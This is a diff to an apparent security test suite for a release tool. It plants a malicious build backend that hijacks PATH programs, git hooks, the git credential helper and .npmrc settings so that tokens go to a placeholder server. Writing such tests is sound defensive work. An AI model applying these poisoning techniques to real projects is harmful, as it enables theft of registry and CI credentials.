@@ -5,13 +5,17 @@ secrets. Whatever of it is started says what it sees, in the workspace and to a 
 from __future__ import annotations
 
 import json
+import os
+import re
+import shutil
 import subprocess
 import sys
 from contextlib import nullcontext
-from dataclasses import replace
+from dataclasses import dataclass, replace
 from pathlib import Path
 from typing import TYPE_CHECKING, Final
 
+from harness.gitlab import TOKEN, write_login
 from hostile.builds import TOOLS
 from hostile.case import SECRETS, Case, environment_of
 from hostile.planted import POM, project
@@ -20,12 +24,14 @@ from hostile.template import START
 from workspaces import git
 
 if TYPE_CHECKING:
-    from collections.abc import Mapping
+    from collections.abc import Mapping, Sequence
 
     from hostile.case import Content
 
+# Of the job at GitLab, where the tags go.
+_ALL: Final = {**SECRETS, "CI_JOB_TOKEN": TOKEN}
 # The beginning of each secret, in pieces, so that it is in no file that is searched for it.
-_MARKS: Final = ", ".join(f"(b{each[:4]!r} + b{each[4:9]!r})" for each in SECRETS.values())
+_MARKS: Final = ", ".join(f"(b{each[:4]!r} + b{each[4:9]!r})" for each in _ALL.values())
 # In the place of a program, then it goes on as that. Where no sandbox holds it, it reads the
 # memory of the release.
 _SPY: Final = f"""\
@@ -88,13 +94,11 @@ for place in path.split(":"):
 sys.exit(1)
 """
 _PROGRAMS: Final = (
-    "git",
     "uv",
     "npm",
     "node",
     "cargo",
     "go",
-    "gpg",
     "python3",
     "sh",
     "java",
@@ -120,12 +124,21 @@ def poison_programs():
         written(W / "bin" / name, SPY)
         written(W / "node_modules/.bin" / name, SPY)
 
-def poison_git():
-    spy = str(W / "bin/spy")
-    written(Path(spy), SPY)
+def poison_path():
+    written(W / "bin/git", SPY)
+
+def poison_gpg():
+    written(W / "bin/gpg", SPY)
+
+def poison_hooks():
     for hook in ("pre-push", "reference-transaction", "post-checkout", "post-index-change",
                  "fsmonitor-watchman", "pre-commit", "post-receive", "update"):
         written(W / ".git/hooks" / hook, SPY)
+
+def poison_git():
+    poison_hooks()
+    spy = str(W / "bin/spy")
+    written(HOME / ".gitconfig", f"[credential]\\n\\thelper = {{spy}}\\n")
     with (W / ".git/config").open("a") as file:
         file.write(f'''
 [core]
@@ -174,7 +187,6 @@ def poison_git():
 
 def poison_settings():
     spy = str(W / "bin/spy")
-    written(Path(spy), SPY)
     auth = "//" + "{{server}}".partition("//")[2] + "/:_authToken=${{RELEASEKIT_NPM_TOKEN}}"
     npmrc = (f"registry={{server}}/\\n@acme:registry={{server}}/\\n{{auth}}\\nproxy={{server}}\\n"
              f"script-shell={{spy}}\\nnode-options=--require {{W}}/evil.cjs\\ngit={{spy}}\\n")
@@ -208,11 +220,20 @@ def poison_settings():
 
 def poison_state():
     state = W / ".releasekit"
-    for name in ("journal.jsonl", "results.json", "plan.json", "report.html", "backup/pypi/x.json"):
+    for name in ("journal.jsonl", "results.json", "plan.json", "report.html"):
         written(state / name, '{{"v": 2, "registry": "{{server}}/legacy/"}}\\n')
     for path in [*state.rglob("dist/**/*")]:
         if path.is_file():
             written(path, SPY)
+
+def poison_backup():
+    written(W / ".releasekit/backup/pypi/x.json", '{{"v": 2}}\\n')
+
+def poison():
+    (W / "loot").mkdir()
+    written(W / "bin/spy", SPY)
+    for each in {{poisons}}:
+        each()
 
 def left_behind():
     if os.fork():
@@ -221,16 +242,16 @@ def left_behind():
         # The last thing that a run does is to say how it went.
         while not (W / ".releasekit/results.json").exists():
             pass
-        poison_{{what}}()
+        for each in {{poisons}}:
+            each()
     finally:
         os._exit(0)
 
 def build_sdist(directory, *_):
     name = sdist(directory)
     if not (W / "loot").exists():
-        (W / "loot").mkdir()
-        poison_{{what}}()
-        left_behind()
+        poison()
+        {{then}}
     return name
 
 """
@@ -241,26 +262,72 @@ VICTIMS: Final[Mapping[str, Content]] = {
 }
 
 
-POISONS: Final = ("programs", "git", "settings", "state")
+# What no build may put where its user is at home.
+UNWRITTEN: Final = (
+    "home/.npmrc",
+    "home/.pypirc",
+    "home/.gitconfig",
+    "home/.cargo/config.toml",
+    "home/.config",
+)
 
 
-def second_run(what: str, pypi: str, npm: str, elsewhere: str) -> Case:
-    """With secrets, to these servers, after a first run without any; `elsewhere` gets nothing."""
+@dataclass(frozen=True, slots=True, kw_only=True)
+class End:
+    """How a run ends after a poison: with a `problem` before any upload, if there is one."""
+
+    code: int = 0
+    problem: str = ""
+    sign: bool = False
+
+
+POISONS: Final[Mapping[str, End]] = {
+    "programs": End(),
+    "path": End(code=2, problem="RK-206"),
+    "gpg": End(code=2, problem="RK-201", sign=True),
+    "hooks": End(),
+    "git": End(code=1, problem="RK-130"),
+    "settings": End(),
+    "state": End(),
+    "backup": End(code=3, problem="RK-323"),
+}
+# What of it is not the user's: a version whose sources no commit has gets no tag.
+_IGNORED: Final = """\
+/bin
+/loot
+.releasekit
+node_modules
+.npmrc
+.cargo
+.mvn
+evil.cjs
+uv.toml
+pip.conf
+/packages/releasekit.toml
+*.py
+!backend.py
+"""
+
+
+def _run(poisons: Sequence[str], then: str, servers: Sequence[str], *, sign: bool = False) -> Case:
+    pypi, npm, elsewhere = servers
     document = {"name": "@acme/a", "version": "1.0.0", "license": "MIT"}
     path = f"{{root}}/w/bin:{Path(sys.executable).parent}"
-    backend = TOOLS.replace("evil.py", "backend.py") + _POISON.replace("{what}", what)
-    made = Case(
-        name=f"a second run after {what}",
+    spy = "{root}/w/bin/spy"
+    names = f"({' '.join(f'poison_{each},' for each in poisons)})"
+    code = _POISON.replace("{poisons}", names).replace("{then}", then)
+    return Case(
+        name=f"a run with {', '.join(poisons)}",
         files={
             "w/pyproject.toml": '[tool.uv.workspace]\nmembers = ["packages/*"]\n',
             "w/packages/core/pyproject.toml": project("core"),
-            "w/packages/core/backend.py": backend,
+            "w/packages/core/backend.py": TOOLS.replace("evil.py", "backend.py") + code,
             "w/package.json": json.dumps({"private": True, "workspaces": ["js/*"]}),
             "w/js/a/package.json": json.dumps(document),
             "w/pom.xml": POM,
-            "w/mvnw": DEPLOYING,
-            "w/.gitignore": "/bin\n/loot\n.releasekit\n",
-            "w/releasekit.toml": '[maven]\ncommand = "./mvnw"\nsign = true\n',
+            "w/mvnw": DEPLOYING.replace("\n", f"\n[ ! -x {spy} ] || {spy}\n", 1),
+            "w/.gitignore": _IGNORED,
+            "w/releasekit.toml": f'[maven]\ncommand = "./mvnw"\nsign = {str(sign).lower()}\n',
             **VICTIMS,
         },
         argv=(
@@ -271,21 +338,32 @@ def second_run(what: str, pypi: str, npm: str, elsewhere: str) -> Case:
             *("--maven-registry", "dir:{root}/registry"),
         ),
         environment={"PATH": f"{path}:/usr/local/bin:/usr/bin:/bin"},
-        codes=frozenset({0, 1, 2, 3}),
         may_write=("registry", "w", "remote.git"),
         server=lambda: nullcontext(elsewhere),
         sandboxed=True,
         executed=True,
     )
 
+
+def _commit(root: Path, remote: str) -> None:
+    (root / "w/bin").mkdir()
+    (root / "w/mvnw").chmod(0o755)
+    git(root / "w", "init", "--quiet", "--initial-branch", "main")
+    git(root / "w", "remote", "add", "origin", remote)
+    git(root / "w", "add", "--all")
+    git(root / "w", "commit", "--quiet", "--message", "Start")
+
+
+def second_run(what: str, servers: Sequence[str]) -> Case:
+    """With secrets, after a first run without any; of the servers of PyPI, npm and nobody, the last
+    gets nothing.
+    """
+    end = POISONS[what]
+    made = _run([what], "left_behind()", servers, sign=end.sign)
+
     def first_run(root: Path) -> None:
-        (root / "w/bin").mkdir()
-        (root / "w/mvnw").chmod(0o755)
         git(root, "init", "--quiet", "--bare", "remote.git")
-        git(root / "w", "init", "--quiet", "--initial-branch", "main")
-        git(root / "w", "remote", "add", "origin", f"file://{root}/remote.git")
-        git(root / "w", "add", "--all")
-        git(root / "w", "commit", "--quiet", "--message", "Start")
+        _commit(root, f"file://{root}/remote.git")
         git(root / "w", "push", "--quiet", "origin", "main")
         environment = {
             name: value.replace("{root}", str(root))
@@ -299,5 +377,40 @@ def second_run(what: str, pypi: str, npm: str, elsewhere: str) -> Case:
             argv, env=environment, capture_output=True, text=True, check=False, timeout=120
         )
         assert (root / "w/loot").exists(), done.stdout + done.stderr
+        if what not in {"state", "backup"}:
+            # So that the second one builds, too.
+            shutil.rmtree(root / "w/.releasekit/dist")
 
-    return replace(made, prepare=first_run)
+    return replace(
+        made,
+        argv=(*made.argv, "--build-sandbox-paths", "{root}/remote.git"),
+        codes=frozenset({end.code}),
+        says=(re.escape(f"[{end.problem}]"),) if end.problem else (),
+        prepare=first_run,
+    )
+
+
+def same_run(page: str, servers: Sequence[str]) -> Case:
+    """What is poisoned by a build goes on to upload, and to push tags to a project of GitLab."""
+    # The other build waits for it.
+    then = 'Path("{root}/tmp/turn").write_text("")'
+    made = _run(["programs", "path", "git", "settings"], then, servers)
+    document = {"name": "@acme/a", "version": "1.0.0", "license": "MIT"}
+    waiting = {**document, "scripts": {"prepack": "cat {root}/tmp/turn"}}
+
+    def prepare(root: Path) -> None:
+        os.mkfifo(root / "tmp/turn")
+        _commit(root, f"{page}.git")
+        git(root / "w", "config", "include.path", f"{root}/w.tmp/runner.conf")
+
+    return replace(
+        made,
+        files={
+            **made.files,
+            "w/js/a/package.json": json.dumps(waiting),
+            "w.tmp/runner.conf": write_login(page),
+        },
+        environment={**made.environment, "GITHUB_ACTIONS": None, "CI_JOB_TOKEN": TOKEN},
+        codes=frozenset({0}),
+        prepare=prepare,
+    )
